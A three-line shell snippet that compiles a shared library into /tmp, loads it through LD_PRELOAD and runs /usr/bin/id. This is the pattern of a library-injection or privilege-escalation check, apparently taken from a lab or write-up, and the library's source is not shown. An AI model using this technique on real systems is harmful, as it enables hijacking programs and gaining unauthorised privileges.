gcc -shared -fPIC -o /tmp/l.so l.c
export LD_PRELOAD=/tmp/l.so
/usr/bin/id
